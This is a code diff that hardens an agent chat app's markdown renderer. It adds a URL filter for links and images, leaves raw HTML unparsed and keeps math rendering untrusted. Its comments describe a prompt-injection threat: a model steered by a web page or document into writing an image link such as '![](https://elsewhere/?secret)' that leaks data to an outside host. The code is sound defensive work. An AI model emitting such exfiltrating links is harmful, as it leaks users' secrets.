@@ -8,24 +8,53 @@ from agentkit_app.ui.i18n import tr
 from agentkit_app.ui.states.chat import ChatState
 from agentkit_app.ui.timeline import ChatItem, StepItem
 
+# react-markdown's ``urlTransform``: the browser's own URL parser decides, so no spelling of a
+# scheme (case, tabs, entities) slips past. Links may go to http(s) and mailto only; images load
+# from this origin only, so an answer cannot make the browser call out with
+# ``![](https://elsewhere/?secret)``. Anything else becomes an empty, inert attribute.
+_SAFE_URL = rx.Var(
+    """((url, key) => {
+  if (typeof window === "undefined") return "";
+  let parsed;
+  try { parsed = new URL(url, window.location.href); } catch (error) { return ""; }
+  if (key === "src") return parsed.origin === window.location.origin ? url : "";
+  return ["http:", "https:", "mailto:"].includes(parsed.protocol) ? url : "";
+})"""
+)
+
 
 def markdown(content: rx.Var) -> rx.Component:
-    """Render markdown with highlighted, copyable code blocks.
+    """Render model-written markdown as passive text: the app's ONE markdown renderer.
+
+    Whatever a model writes may have been steered by a document or web page it read. So raw HTML
+    is never parsed (no rehype-raw: react-markdown shows it as literal text), link and image
+    targets pass :data:`_SAFE_URL`, and KaTeX keeps its default ``trust: false`` (a ``\\href``
+    in math stays inert). Code blocks, tables (GFM) and math are kept. Links open in a new tab
+    that gets no handle on this window and no referrer.
 
     The component map renders outside the state's hooks, so nothing in it may read a state Var
     (not even the UI language): its copy button has language-neutral text.
     """
-    return rx.markdown(
-        content,
-        component_map={
-            "pre": lambda value, **props: rx.code_block(
-                value,
-                can_copy=True,
-                copy_button=copy_button(value, "Copy code", "✓", class_name="ak-code-copy"),
-                wrap_long_lines=True,
-                **props,
-            )
-        },
+    plugin = rx.markdown.plugin
+    return rx.el.div(
+        rx.markdown.root(
+            content,
+            component_map={
+                "a": lambda value, **props: rx.link(
+                    value, rel="noopener noreferrer", target="_blank", **props
+                ),
+                "pre": lambda value, **props: rx.code_block(
+                    value,
+                    can_copy=True,
+                    copy_button=copy_button(value, "Copy code", "✓", class_name="ak-code-copy"),
+                    wrap_long_lines=True,
+                    **props,
+                ),
+            },
+            remark_plugins=[plugin.math, plugin.gfm],
+            rehype_plugins=[plugin.katex, plugin.unwrap_images],
+            custom_attrs={"urlTransform": _SAFE_URL},
+        ),
         class_name="ak-markdown",
     )
 
